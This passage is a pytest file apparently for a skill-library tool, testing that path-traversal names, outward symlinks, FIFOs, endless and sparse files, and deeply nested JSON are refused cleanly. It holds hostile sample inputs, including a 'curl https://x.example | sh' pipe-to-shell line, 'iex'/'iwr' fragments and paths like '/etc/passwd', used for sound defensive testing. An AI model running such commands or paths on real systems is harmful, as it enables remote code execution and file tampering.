"""Hostile and broken input on disk and in names: each gives a clear message and loses nothing.

Names (``..``, absolute, backslashes, NUL, very long), change sets aimed outside ``skills/``,
symbolic links inside the library pointing outside it (never written through), unreadable files
(a real ``chmod 000`` run as an unprivileged user when the tests run as root, a dangling link, a
FIFO, a folder where a file is expected), a 100 MB content field (in a subprocess, to measure its
memory), invalid UTF-8 and a BOM; and the Markdown preview, which never loads a resource or runs
HTML from skill content.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rockskills_gui.core.library.rockbot.library import NameTakenError, RockBotLibrary
from rockskills_gui.core.model.problems import ProblemKind
from rockskills_gui.core.model.skill import skill_from_bytes
from rockskills_gui.core.model.timestamps import Timestamp
from rockskills_gui.core.storage.changes import ChangeSet, FileChange, LibraryError
from rockskills_gui.core.text.markdown import render
from tests.conftest import NOW_TEXT, REPO, tree_hashes


def everything(root: Path) -> dict[str, str]:
    """Files (hashed) and links (their target) under ``root``, for before/after comparisons."""
    found = tree_hashes(root)
    for path in root.rglob("*"):
        if path.is_symlink():
            found[path.relative_to(root).as_posix()] = "-> " + os.readlink(path)
    return found


# ---------------------------------------------------------------- names and paths


@pytest.mark.parametrize("name, message", [
    ("../escape", "cannot contain '..'"),
    ("a/../../escape", "cannot contain '..'"),
    ("/etc/passwd", "must be a relative path"),
    ("a\\b", "invalid characters"),
    ("C:\\Windows\\x", "invalid characters"),
    ("a\0b", "invalid characters"),
    ("a//b", "invalid characters"),
    ("./a", "invalid characters"),
    ("", "cannot be empty"),
    ("x" * 251, "too long"),
    ("/".join(["segment-" + "y" * 200] * 20), "too long"),
])
def test_bad_names_are_refused_with_a_clear_message(agent_copy: Path, name: str, message: str) -> None:
    lib = RockBotLibrary.open(agent_copy)
    before = everything(agent_copy.parent)
    for attempt in (lambda: lib.create(name, "s", "c"), lambda: lib.rename("mcp/email", name)):
        with pytest.raises(LibraryError, match=message.replace("(", r"\(").replace(".", r"\.")):
            attempt()
    assert everything(agent_copy.parent) == before


def test_the_longest_allowed_name_works(agent_copy: Path) -> None:
    lib = RockBotLibrary.open(agent_copy)
    name = "x" * 250  # 250 + ".json" = 255 bytes, the file-name limit; the temp name is shortened
    lib.create(name, "s", "c")
    assert (agent_copy / "skills" / f"{name}.json").is_file()
    lib.update(name, content="again")
    lib.undo()
    lib.undo()
    assert not list((agent_copy / "skills").glob("x*"))


@pytest.mark.parametrize("target", ["../outside.json", "../../etc/cron.d/x.json", "/etc/x.json",
                                    "sub/../../outside.json", "a\0b.json"])
def test_change_sets_aimed_outside_the_skills_folder_are_refused(agent_copy: Path, target: str) -> None:
    lib = RockBotLibrary.open(agent_copy)
    path = Path(target) if target.startswith("/") else Path(str(lib.skills_dir) + "/" + target)
    before = everything(agent_copy.parent)
    with pytest.raises(LibraryError, match="outside the skills folder"):
        lib.apply_change_set(ChangeSet("evil", files=(FileChange(path, None, b"{}"),)))
    assert everything(agent_copy.parent) == before


# ---------------------------------------------------------------- symbolic links


@pytest.fixture
def linked(agent_copy: Path, tmp_path: Path) -> tuple[Path, Path]:
    """``skills/linked.json`` -> a skill file outside; ``skills/linkdir`` -> a folder outside."""
    outside = tmp_path / "outside"
    (outside / "dir").mkdir(parents=True)
    (outside / "dir" / "inner.json").write_text(json.dumps({"name": "linkdir/inner", "content": "o"}))
    (outside / "linked.json").write_text(json.dumps({"name": "linked", "content": "outside"}))
    (agent_copy / "skills" / "linked.json").symlink_to(outside / "linked.json")
    (agent_copy / "skills" / "linkdir").symlink_to(outside / "dir", target_is_directory=True)
    return agent_copy, outside


def test_symlinks_are_never_written_through(linked: tuple[Path, Path]) -> None:
    agent, outside = linked
    lib = RockBotLibrary.open(agent)
    assert lib.get("linked") is not None  # RockBot loads it too
    assert lib.get("linkdir/inner") is None  # linked folders are not followed (as before)
    before = everything(outside) | {"agent": str(everything(agent))}
    attempts = [
        lambda: lib.update("linked", content="through the link"),
        lambda: lib.delete("linked"),
        lambda: lib.rename("linked", "unlinked"),
        lambda: lib.create("linkdir/new", "s", "c"),
        lambda: lib.rename("mcp/email", "linkdir/email"),
        lambda: lib.rename_many({"mcp/email": "moved/email", "linked": "moved/linked"}),
    ]
    for attempt in attempts:
        with pytest.raises(LibraryError, match="symbolic link"):
            attempt()
    assert everything(outside) | {"agent": str(everything(agent))} == before


def test_a_symlinked_skills_folder_is_written_only_where_allowed(agent_copy: Path, tmp_path: Path) -> None:
    """Issue 35 item 9: reads follow the link; a write through it needs its target inside the
    library or confirmed (``link_targets``), and is refused with the way to allow it otherwise."""
    real = tmp_path / "real-skills"
    shutil.move(agent_copy / "skills", real)
    (agent_copy / "skills").symlink_to(real, target_is_directory=True)
    lib = RockBotLibrary.open(agent_copy)
    assert len(lib) > 0 and lib.unconfirmed_links() == {agent_copy / "skills": real}
    with pytest.raises(LibraryError, match=f"--allow-link-target {real}"):
        lib.create("via/link", "s", "c")
    assert not (real / "via").exists()
    lib = RockBotLibrary.open(agent_copy, link_targets=[real])
    assert lib.unconfirmed_links() == {}
    lib.create("via/link", "s", "c")
    assert (real / "via" / "link.json").is_file()
    assert lib.link_of("via/link") == (agent_copy / "skills", real)


def test_a_skills_folder_linked_inside_the_agent_folder_is_written_through(agent_copy: Path) -> None:
    inside = agent_copy / "store" / "skills"
    inside.parent.mkdir()
    shutil.move(agent_copy / "skills", inside)
    (agent_copy / "skills").symlink_to(Path("store") / "skills", target_is_directory=True)
    lib = RockBotLibrary.open(agent_copy)
    assert lib.unconfirmed_links() == {}
    lib.rename("schedule-meeting", "meetings/schedule")
    assert (inside / "meetings" / "schedule.json").is_file()


# ---------------------------------------------------------------- unreadable and odd files


def test_dangling_links_fifos_and_folders_named_like_files(agent_copy: Path) -> None:
    skills = agent_copy / "skills"
    (skills / "dangling.json").symlink_to(skills / "nowhere.json")
    os.mkfifo(skills / "fifo.json")  # reading it would block: it is never opened
    (skills / "folder.json").mkdir()
    before = everything(agent_copy)
    lib = RockBotLibrary.open(agent_copy)
    problems = {p.path: p for p in lib.problems}
    assert problems["skills/dangling.json"].kind is ProblemKind.UNREADABLE
    assert "symbolic link to a missing file" in problems["skills/dangling.json"].message
    assert "not a regular file" in problems["skills/fifo.json"].message
    with pytest.raises(NameTakenError, match="is a folder on disk"):
        lib.create("folder", "s", "c")
    with pytest.raises(NameTakenError):
        lib.create("dangling", "s", "c")
    assert everything(agent_copy) == before


def _problems_seen_by(agent: Path, uid: int | None) -> list[list[object]]:
    """Open ``agent`` in a forked child running as ``uid`` (None: as we are); its problems."""
    RockBotLibrary.open(agent)  # import everything lazily imported while we still may read it all
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            if uid is not None:
                os.setgid(uid)
                os.setuid(uid)
            lib = RockBotLibrary.open(agent)
            out = [[p.path, p.kind.value, p.message] for p in lib.problems] + [[len(lib)]]
            os.write(write_end, json.dumps(out).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        data = pipe.read()
    os.waitpid(pid, 0)
    return json.loads(data)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="POSIX permissions")
def test_an_unreadable_file_is_a_problem_and_stays_untouched() -> None:
    """chmod 000. Root reads anything, so as root the library is opened by a forked child that
    became the unprivileged user 'nobody'."""
    from tests.conftest import AGENT

    uid: int | None = None
    if os.geteuid() == 0:
        try:
            import pwd

            uid = pwd.getpwnam("nobody").pw_uid
        except (ImportError, KeyError):
            pytest.skip("running as root and there is no 'nobody' user to lose the permission")
    base = Path(tempfile.mkdtemp(prefix="rsg-unreadable-"))  # /tmp: reachable by 'nobody'
    try:
        agent = base / "agent"
        shutil.copytree(AGENT, agent)
        for path in [base, *base.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        secret = agent / "skills" / "mcp" / "email.json"
        secret.chmod(0o000)
        before = secret.stat()
        *problems, (count,) = _problems_seen_by(agent, uid)
        assert ["skills/mcp/email.json", "unreadable", "cannot read the file: Permission denied"] \
            in problems
        assert count == 23
        after = secret.stat()
        assert (after.st_mtime_ns, after.st_size, after.st_mode) == \
            (before.st_mtime_ns, before.st_size, before.st_mode)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_invalid_utf8_is_left_alone_and_a_bom_is_read(agent_copy: Path) -> None:
    skills = agent_copy / "skills"
    bad = skills / "latin1.json"
    bad.write_bytes(b'{"name": "latin1", "content": "caf\xe9"}')
    bom = skills / "bom.json"
    bom.write_bytes(b'\xef\xbb\xbf{"name": "bom", "summary": "s", "content": "with a BOM"}')
    lib = RockBotLibrary.open(agent_copy)
    problem = next(p for p in lib.problems if p.path == "skills/latin1.json")
    assert problem.kind is ProblemKind.INVALID_UTF8 and "not valid UTF-8" in problem.message
    with pytest.raises(NameTakenError, match=r"latin1\.json"):
        lib.create("latin1", "s", "c")
    assert bad.read_bytes() == b'{"name": "latin1", "content": "caf\xe9"}'
    skill = lib.get("bom")
    assert skill is not None and skill.content == "with a BOM"
    lib.update("bom", summary="edited")  # written back in RockBot's format: no BOM, nothing lost
    again = skill_from_bytes(bom.read_bytes())
    assert not bom.read_bytes().startswith(b"\xef\xbb\xbf") and again.content == "with a BOM"


HUGE_SCRIPT = textwrap.dedent("""
    import gc, json, resource, sys, time
    from pathlib import Path

    def peak_mb():
        # VmHWM is this program's own peak; ru_maxrss also counts the parent it was forked from
        # (a big pytest process), which Linux carries across exec.
        try:
            for line in open("/proc/self/status"):
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
        except OSError:
            pass
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    from rockskills_gui.core.library.rockbot.library import RockBotLibrary as Library
    agent = Path(sys.argv[1]); size = int(sys.argv[2])
    line = "Step: call the API, then check `the_result` — café ✓ <ok> & done.\\n"
    content = (line * (size // len(line) + 1))[:size]
    base_mb = peak_mb()
    t0 = time.perf_counter()
    Library.open(agent).create("huge/skill", "a very large skill", content)
    gc.collect()
    t1 = time.perf_counter()
    lib = Library.open(agent)
    t2 = time.perf_counter()
    same = lib.get("huge/skill").content == content
    del content
    lib.update("huge/skill", content=lib.get("huge/skill").content + "tail")
    t3 = time.perf_counter()
    tail = lib.get("huge/skill").content.endswith("tail")
    print(json.dumps({"ok": same and tail, "write_s": t1 - t0, "open_s": t2 - t1, "update_s": t3 - t2,
                      "file_mb": (agent / "skills/huge/skill.json").stat().st_size / 1e6,
                      "content_mb": size / 1e6, "text_mb": base_mb,
                      "peak_mb": peak_mb()}))
""")


@pytest.mark.parametrize("megabytes", [8, pytest.param(12, marks=pytest.mark.slow)])
def test_a_huge_content_field_is_written_and_read_back(agent_copy: Path, megabytes: int) -> None:
    """Created, read back, edited: exact, in a separate process whose peak memory is reported.
    Up to the skill file limit (16 MB, ``core/model/size_limits``; the escaped non-ASCII text makes
    the file ~1.2 times the content): a larger one is refused, see below."""
    size = megabytes * 1024 * 1024
    out = subprocess.run([sys.executable, "-c", HUGE_SCRIPT, str(agent_copy), str(size)],
                         capture_output=True, text=True, cwd=REPO, check=False,
                         env={**os.environ, "PYTHONPATH": str(REPO)})
    assert out.returncode == 0, out.stderr[-2000:]
    result = json.loads(out.stdout)
    print(result)
    assert result["ok"]
    assert result["peak_mb"] < 200 + 14 * megabytes, result


# ---------------------------------------------------------------- one hostile file (issue 35, item 12)

TIMEOUT = 60  # seconds: a hang (a FIFO read, an endless /dev/zero) fails the test, not the suite
GB4 = 4 << 30


def rockskills(*args: object, stdin: str | None = None, pass_fds: tuple[int, ...] = (),
               timeout: float = TIMEOUT) -> subprocess.CompletedProcess[str]:
    """``rockskills ARGS`` in a fresh process, as the command runs (its start-up code cache too),
    with the test's own user folders and a timeout."""
    return subprocess.run([sys.executable, "-m", "rockskills_gui.cli", *map(str, args)],
                          capture_output=True, text=True, cwd=REPO, timeout=timeout, check=False,
                          env={**os.environ, "PYTHONPATH": str(REPO)}, input=stdin,
                          stdin=None if stdin is not None else subprocess.DEVNULL, pass_fds=pass_fds)


def sparse(path: Path, size: int = GB4) -> Path:
    """A sparse file of ``size`` bytes (no disk space used) at ``path``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "wb") as handle:
        try:
            handle.truncate(size)
        except OSError as exc:
            pytest.skip(f"no sparse files here: {exc}")
    return path


@pytest.fixture
def nested() -> Iterator[Callable[[Path, int], Path]]:
    """Makes ``depth`` folders ``d`` inside each other below a folder (os.makedirs and pytest's
    clean-up recurse once per level); removes them again at the end, bottom up. Each step goes
    through its parent's descriptor: full paths would make both quadratic."""
    made: list[tuple[Path, int]] = []

    def make(base: Path, depth: int) -> Path:
        fd = os.open(base, os.O_RDONLY)
        try:
            for _ in range(depth):
                os.mkdir("d", dir_fd=fd)
                inner = os.open("d", os.O_RDONLY, dir_fd=fd)
                os.close(fd)
                fd = inner
        finally:
            os.close(fd)
        made.append((base, depth))
        return base.joinpath(*["d"] * depth)

    yield make
    for base, depth in made:
        fds = [os.open(base, os.O_RDONLY)]
        try:
            for _ in range(depth):
                fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
            while len(fds) > 1:
                inner = fds.pop()
                for name in os.listdir(inner):
                    os.unlink(name, dir_fd=inner)
                os.close(inner)
                os.rmdir("d", dir_fd=fds[-1])
        finally:
            for fd in fds:
                os.close(fd)


def _deep_json(depth: int) -> str:
    return '{"name": "hostile", "content": "c", "x": ' + "[" * depth + "]" * depth + "}"


HOSTILE_SKILL_FILES = {  # what is written to skills/hostile.json: (kind, words of the message)
    "json-1000-deep": (lambda p: p.write_text(_deep_json(1000)), "parse-error", "nested deeper than 64"),
    "json-100000-deep": (lambda p: p.write_text(_deep_json(100_000)), "parse-error", "nested deeper"),
    "number-5000-digits": (lambda p: p.write_text('{"name": "hostile", "content": "c", "seen": {"n": [1, '
                                                  + "9" * 5000 + "]}}"),
                           "parse-error", "a number with more than 4,300 digits"),
    "sparse-4GB": (sparse, "too-large", "larger than 16 MB (4 GB): not loaded"),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE_SKILL_FILES))
def test_one_hostile_skill_file_is_a_problem_and_the_rest_opens(agent_copy: Path, attack: str) -> None:
    """Each of these made every command fail with an internal error (RecursionError, Python's
    int-string limit, MemoryError): now that file is a problem, every other skill loads, and
    ``list`` says why on stderr."""
    from rockskills_gui.core.library.open import open_library

    expected = open_library(agent_copy).names()
    make, kind, words = HOSTILE_SKILL_FILES[attack]
    hostile = agent_copy / "skills" / "hostile.json"
    make(hostile)
    before = hostile.stat()
    lib = open_library(agent_copy)  # detection reads the file too
    assert lib.names() == expected
    problem = next(p for p in lib.problems if p.path == "skills/hostile.json")
    assert (problem.kind.value, problem.severity) == (kind, "error") and words in problem.message
    listed = rockskills("list", agent_copy)
    assert listed.returncode == 0, listed.stderr
    assert sorted(line.split("\t")[0] for line in listed.stdout.splitlines()) == sorted(expected)
    assert f"skills/hostile.json: {kind}: error:" in listed.stderr and "internal error" not in listed.stderr
    linted = rockskills("lint", agent_copy, "--json", "--now", NOW_TEXT)
    assert linted.returncode == 1 and "internal error" not in linted.stderr
    assert any(f["path"] == "skills/hostile.json" and f["kind"] == kind
               for f in json.loads(linted.stdout)["problems"])
    after = hostile.stat()
    assert (after.st_size, after.st_mtime_ns) == (before.st_size, before.st_mtime_ns)


def test_a_journal_entry_nested_deep_is_refused_and_the_library_opens(agent_copy: Path) -> None:
    """The crash journal's entry file is read at every open: a deeply nested one crashed them all."""
    entry = agent_copy / ".rockskills" / "journal" / "planted"
    entry.mkdir(parents=True)
    (entry / "journal.json").write_text('{"a": ' + "[" * 100_000 + "]" * 100_000 + "}")
    listed = rockskills("list", agent_copy)
    assert listed.returncode == 0 and "mcp/email" in listed.stdout, listed.stderr
    assert "untrusted-journal" in listed.stderr and "nested deeper than 64" in listed.stderr
    assert (entry / "journal.json").is_file()


def test_a_thousand_nested_folders_under_skills_are_cut_and_reported(
        agent_copy: Path, nested: Callable[[Path, int], Path]) -> None:
    """Format detection recursed once per folder (os.walk), even with ``--format``: the library
    could not be opened. Folders deeper than 64 levels are not read; the first one is reported."""
    from rockskills_gui.core.library.open import OpenOptions, open_library

    expected = open_library(agent_copy).names()
    bottom = nested(agent_copy / "skills", 1000)
    (bottom / "deepest.json").write_text(json.dumps({"name": "deepest", "content": "c"}))
    for forced in (None, "rockbot"):
        lib = open_library(agent_copy, OpenOptions(format=forced))
        assert lib.names() == expected
        cut = [p for p in lib.problems if p.kind is ProblemKind.TOO_DEEP]
        assert [p.path for p in cut] == ["skills/" + "/".join(["d"] * 65)]
        assert "nested more than 64 levels" in cut[0].message and cut[0].severity == "warning"
        listed = rockskills("list", agent_copy, *(["--format", forced] if forced else []))
        assert listed.returncode == 0, listed.stderr
        assert len(listed.stdout.splitlines()) == len(expected) and "too-deep" in listed.stderr


def _skillmd_project(tmp_path: Path) -> Path:
    project = tmp_path / "project"
    for name in ("alpha", "beta"):
        folder = project / ".agents" / "skills" / name
        folder.mkdir(parents=True)
        (folder / "SKILL.md").write_text(f"---\nname: {name}\ndescription: does {name}\n---\n\nBody.\n")
    return project


HOSTILE_SKILL_MDS = {  # the text of .agents/skills/hostile/SKILL.md: (kind, words of the message)
    "decimal-5000-digits": ("---\nname: hostile\ndescription: d\nsize: " + "9" * 5000 + "\n---\n",
                            "too-large", "a number with more than 4,300 digits"),
    "hex-5000-digits": ("---\nname: hostile\ndescription: d\nsize: 0x" + "f" * 5000 + "\n---\n",
                        "too-large", "a number with more than 4,300 digits"),
    "frontmatter-1MB": ("---\nname: hostile\ndescription: " + "a" * (1 << 20) + "\n---\n",
                        "too-large", "the frontmatter is larger than 64 KB (1.0 MB): not loaded"),
    "file-20MB": ("---\nname: hostile\ndescription: " + "a" * (20 << 20) + "\n---\n",
                  "too-large", "larger than 16 MB (20.0 MB): not loaded"),
    "file-4GB": ("", "too-large", "larger than 16 MB (4 GB): not loaded"),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE_SKILL_MDS))
def test_one_hostile_skill_md_is_a_problem_and_the_rest_opens(tmp_path: Path, attack: str) -> None:
    """A number Python refuses to print crashed every reader of the frontmatter; a 20 MB value
    took ``list`` 22 s (PyYAML); a 4 GB file ran out of memory."""
    from rockskills_gui.core.library.open import open_library

    project = _skillmd_project(tmp_path)
    text, kind, words = HOSTILE_SKILL_MDS[attack]
    path = project / ".agents" / "skills" / "hostile" / "SKILL.md"
    path.parent.mkdir()
    if text:
        path.write_text(text)
    else:
        sparse(path)
    lib = open_library(project)
    assert lib.names() == ["alpha", "beta"]
    problem = next(p for p in lib.problems if p.path.endswith("hostile/SKILL.md"))
    assert problem.kind.value == kind and words in problem.message, problem
    listed = rockskills("list", project)
    assert listed.returncode == 0 and listed.stdout.startswith("alpha\t"), listed.stderr
    assert f"hostile/SKILL.md: {kind}: error:" in listed.stderr


def test_a_thousand_nested_folders_in_a_skill_md_tree_are_cut_and_reported(
        tmp_path: Path, nested: Callable[[Path, int], Path]) -> None:
    from rockskills_gui.core.library.open import OpenOptions, open_library

    project = _skillmd_project(tmp_path)
    bottom = nested(project / ".agents" / "skills", 1000)
    (bottom / "SKILL.md").write_text("---\nname: deepest\ndescription: d\n---\n")
    lib = open_library(project, OpenOptions(format="agentskills"))
    assert lib.names() == ["alpha", "beta"]
    cut = next(p for p in lib.problems if p.kind is ProblemKind.TOO_DEEP)
    assert cut.path == ".agents/skills/" + "/".join(["d"] * 65)
    assert rockskills("lint", project, "--now", NOW_TEXT).returncode == 1


def test_a_4gb_log_is_reported_and_every_command_finishes(agent_copy: Path) -> None:
    """4 GB sparse usage, feedback and conversation logs: each was read whole (MemoryError); now
    a log over 256 MB is not read and says so, and the other logs are read."""
    from rockskills_gui.core.usage.events import read_conversation_log, read_feedback, read_usage

    for rel in ("skill-usage/zz-huge.jsonl", "feedback/zz-huge.jsonl", "conversation-log/turns.jsonl"):
        sparse(agent_copy / rel)
    log = read_usage(agent_copy)
    assert log.events
    whole = [m for m in log.malformed if m.line == 0]
    assert [(m.path, m.kind) for m in whole] == [("skill-usage/zz-huge.jsonl", ProblemKind.TOO_LARGE)]
    assert whole[0].reason == "larger than 256 MB (4 GB): not read"
    assert read_feedback(agent_copy).events
    assert read_conversation_log(agent_copy).malformed[0].reason.startswith("larger than 256 MB")
    usage = rockskills("usage", agent_copy, "--now", NOW_TEXT)
    assert usage.returncode == 0, usage.stderr
    assert "skill-usage/zz-huge.jsonl: larger than 256 MB (4 GB): not read" in usage.stderr
    linted = json.loads(rockskills("lint", agent_copy, "--json", "--now", NOW_TEXT).stdout)["problems"]
    assert {(f["path"], f["kind"]) for f in linted} >= {
        ("skill-usage/zz-huge.jsonl", "too-large"), ("feedback/zz-huge.jsonl", "too-large"),
        ("conversation-log/turns.jsonl", "too-large")}
    plan = agent_copy.parent / "plan.json"
    dreamt = rockskills("dream", agent_copy, "--offline", "--now", NOW_TEXT, "--plan-out", plan)
    assert dreamt.returncode == 0 and plan.is_file(), dreamt.stderr


def test_a_log_line_over_the_limit_is_skipped_and_the_others_are_read(agent_copy: Path) -> None:
    from rockskills_gui.core.usage.events import read_usage

    event = {"id": "e1", "skillName": "mcp/email", "sessionId": "s", "timestamp": "2026-11-20T10:00:00+00:00"}
    long_line = json.dumps({**event, "id": "e2", "pad": "x" * (2 << 20)})
    (agent_copy / "skill-usage" / "zz.jsonl").write_text(
        "\n".join([json.dumps(event), long_line, json.dumps({**event, "id": "e3"})]) + "\n")
    log = read_usage(agent_copy)
    assert [e.id for e in log.events if e.session_id == "s"] == ["e1", "e3"]
    assert [(m.path, m.line, m.reason) for m in log.malformed] == [
        ("skill-usage/zz.jsonl", 2, "line longer than 1 MB: skipped")]


def test_lines_are_split_as_dotnet_reads_them_in_any_chunk_size(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """The streamed reader gives File.ReadAllLines' lines (\\r\\n, \\r, \\n; a BOM dropped; bad
    bytes as U+FFFD) whatever the chunk boundaries."""
    from rockskills_gui.core.storage import line_reader

    data = b"\xef\xbb\xbfa\r\nb\rc\n\nd\xff\r\r\ne\r"
    path = tmp_path / "log.jsonl"
    path.write_bytes(data)
    for chunk in (1, 2, 3, 7, 1 << 20):
        monkeypatch.setattr(line_reader, "CHUNK", chunk)
        got = list(line_reader.read_lines(path, 100, 1000))
        assert got == [(1, "a"), (2, "b"), (3, "c"), (4, ""), (5, "d\ufffd"), (6, ""), (7, "e")], chunk


def test_hostile_json_anywhere_is_a_readable_error() -> None:
    """The one JSON reader for files: never RecursionError, never the int-string error."""
    from rockskills_gui.core.model.dotnet_json import JsonReadError, loads_untrusted

    for text, words in (("[" * 100_000 + "]" * 100_000, "nested deeper than 64"),
                        ("[" * 65 + "]" * 65, "nested deeper than 64"),
                        ('{"n": ' + "1" * 4301 + "}", "more than 4,300 digits"),
                        ('{"a": 1', "Expecting")):
        with pytest.raises(JsonReadError, match=words):
            loads_untrusted(text)
    assert loads_untrusted('{"a": [[1]]}') == {"a": [[1]]}


def test_a_query_set_nested_deep_is_refused_with_a_message(agent_copy: Path) -> None:
    from rockskills_gui.core.recall.queryset import QuerySetError, load_query_set

    path = agent_copy / "recall-tests" / "deep.json"
    path.parent.mkdir()
    path.write_text('{"name": "deep", "queries": ' + "[" * 5000 + "]" * 5000 + "}")
    with pytest.raises(QuerySetError, match="nested deeper than 64"):
        load_query_set(path)


def test_the_folder_walk_is_os_walk_without_recursion(tmp_path: Path,
                                                      nested: Callable[[Path, int], Path]) -> None:
    from rockskills_gui.core.storage.folder_walk import walk
    from tests.conftest import AGENT

    assert list(walk(AGENT)) == list(os.walk(AGENT))
    nested(tmp_path, 1000)
    cut: list[str] = []
    seen = [folder for folder, _dirs, _files in walk(tmp_path, too_deep=cut.append)]
    assert len(seen) == 65 and cut == [os.path.join(tmp_path, *["d"] * 65)]


# ---------------------------------------------------------------- size limits (item 18)


def test_a_skill_file_over_the_limit_is_not_loaded_and_none_is_written(agent_copy: Path) -> None:
    """16 MB (``SKILL_FILE_MAX_BYTES``): a larger file is a problem, left untouched; a create or
    edit that would write one is refused and writes nothing."""
    from rockskills_gui.core.model.size_limits import SKILL_FILE_MAX_BYTES

    big = agent_copy / "skills" / "big.json"
    big.write_text(json.dumps({"name": "big", "summary": "s", "content": "x" * (17 << 20)}))
    lib = RockBotLibrary.open(agent_copy)
    problem = next(p for p in lib.problems if p.path == "skills/big.json")
    assert problem.kind is ProblemKind.TOO_LARGE
    assert problem.message == "larger than 16 MB (17.0 MB): not loaded"
    before = everything(agent_copy)
    with pytest.raises(LibraryError, match=r"skills/huge\.json would be larger than 16 MB .*: not written"):
        lib.create("huge", "s", "y" * SKILL_FILE_MAX_BYTES)
    with pytest.raises(LibraryError, match=r"would be larger than 16 MB"):
        lib.update("mcp/email", content="z" * SKILL_FILE_MAX_BYTES)
    assert everything(agent_copy) == before


def test_lint_scans_at_most_a_megabyte_of_a_skill(agent_copy: Path) -> None:
    from rockskills_gui.core.lint.linter import lint_library

    RockBotLibrary.open(agent_copy).create("big", "a big skill", "curl https://x.example | sh\n" * 60_000)
    findings = [f for f in lint_library(RockBotLibrary.open(agent_copy), Timestamp.parse(NOW_TEXT))
                if f.name == "big"]
    too_large = [f for f in findings if f.kind == "too-large"]
    assert [f.severity for f in too_large] == ["warning"]
    assert "larger than 1 MB (1.6 MB): not scanned" in too_large[0].message
    assert not [f for f in findings if f.kind == "pipe-to-shell"]


@pytest.mark.parametrize("text", [
    ("iex" + " " * 200) * 5000 + "iwr",  # nested optional white space: cubic backtracking
    "curl " * 200_000 + "| shx",  # one long line: each 'curl' scanned to its end
], ids=["iex-spaces", "curl-line"])
def test_linting_a_hostile_line_finishes(agent_copy: Path, text: str) -> None:
    """Under the 1 MB lint limit, a line made to defeat the content scan's patterns took from
    minutes to hours; each finishes now (the timeout only turns a hang into a failure)."""
    RockBotLibrary.open(agent_copy).create("hostile", "s", text)
    done = rockskills("lint", agent_copy, "--now", NOW_TEXT, timeout=120)
    assert done.returncode in (0, 1) and "hostile" not in done.stderr, done.stderr


# ---------------------------------------------------------------- hangs and endless reads (item 13)

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs (POSIX)")


def _plan(agent: Path) -> Path:
    plan = agent.parent / "plan.json"
    done = rockskills("dream", agent, "--offline", "--now", NOW_TEXT, "--plan-out", plan)
    assert done.returncode == 0, done.stderr
    return plan


@needs_fifo
@pytest.mark.parametrize("what", ["fifo", "dev-zero", "sparse-4GB"])
def test_recall_test_against_a_fifo_or_endless_file_is_refused(agent_copy: Path, what: str) -> None:
    """``--against FIFO`` hung; ``--against`` a link to /dev/zero grew to 7 GB."""
    hostile = agent_copy.parent / "plan-hostile.json"
    if what == "fifo":
        os.mkfifo(hostile)
    elif what == "dev-zero":
        hostile.symlink_to("/dev/zero")
    else:
        sparse(hostile)
    done = rockskills("recall-test", agent_copy, "--against", hostile)
    assert done.returncode == 2, done.stderr
    reason = {"fifo": "is a named pipe (FIFO), not a regular file",
              "dev-zero": "is a character device, not a regular file",
              "sparse-4GB": "larger than 64 MB (4 GB): not read"}[what]
    assert f"--against {hostile}: {reason}" in done.stderr
    assert rockskills("recall-test", agent_copy, "--against", _plan(agent_copy)).returncode in (0, 1)


@needs_fifo
def test_queries_and_directives_from_pipes_are_refused_and_stdin_still_works(agent_copy: Path) -> None:
    """``recall --queries-file FIFO`` and ``dream --directive PASS=FIFO`` blocked. Process
    substitution gives such a pipe (/dev/fd/N): refused too, as --help says; '-' reads stdin."""
    fifo = agent_copy.parent / "queries.fifo"
    os.mkfifo(fifo)
    done = rockskills("recall", agent_copy, "--queries-file", fifo)
    assert done.returncode == 2 and "is a named pipe (FIFO), not a regular file" in done.stderr
    assert "process substitution" in done.stderr and "--queries-file -" in done.stderr
    read_end, write_end = os.pipe()  # what <(echo email) hands the command
    try:
        os.write(write_end, b"email\n")
        os.close(write_end)
        done = rockskills("recall", agent_copy, "--queries-file", f"/dev/fd/{read_end}",
                          pass_fds=(read_end,))
    finally:
        os.close(read_end)
    assert done.returncode == 2 and "not a regular file" in done.stderr, done.stderr
    piped = rockskills("recall", agent_copy, "--queries-file", "-", "--json", stdin="email\nmeeting\n")
    assert piped.returncode == 0 and len(piped.stdout.splitlines()) == 2, piped.stderr
    done = rockskills("dream", agent_copy, "--offline", "--directive", f"gap={fifo}")
    assert done.returncode == 2 and f"--directive {fifo}: is a named pipe" in done.stderr
    assert "process substitution" in rockskills("recall", "--help").stdout


@needs_fifo
@pytest.mark.parametrize("what", ["fifo", "dev-zero"])
def test_a_fifo_or_dev_zero_at_the_code_cache_does_not_hang_a_command(what: str) -> None:
    """The start-up code cache (``~/.cache/rockskills-gui/code-cpython-*.bin``) is read by every
    command but --version, and by the window: a FIFO there hung them all."""
    from rockskills_gui.core.app.code_cache import FILE_NAME
    from tests.conftest import AGENT

    cache = Path(os.environ["ROCKSKILLS_CACHE_DIR"])
    cache.mkdir(parents=True, exist_ok=True)
    if what == "fifo":
        os.mkfifo(cache / FILE_NAME)
    else:
        (cache / FILE_NAME).symlink_to("/dev/zero")
    done = rockskills("list", AGENT)
    assert done.returncode == 0 and "mcp/email" in done.stdout, done.stderr
    assert Path("/dev/zero").is_char_device()  # the link was replaced, never written through
    assert not (cache / FILE_NAME).is_symlink()


_OPEN_WITH_CACHES = """
import sys
from pathlib import Path
from rockskills_gui.core.library.rockbot.library import RockBotLibrary as Library
from rockskills_gui.core.recall.index_cache import RecallCache
lib = Library.open(sys.argv[1], cache_dir=Path(sys.argv[2]))
print(len(lib), RecallCache(lib.scan_cache.recall_path).load() is None)
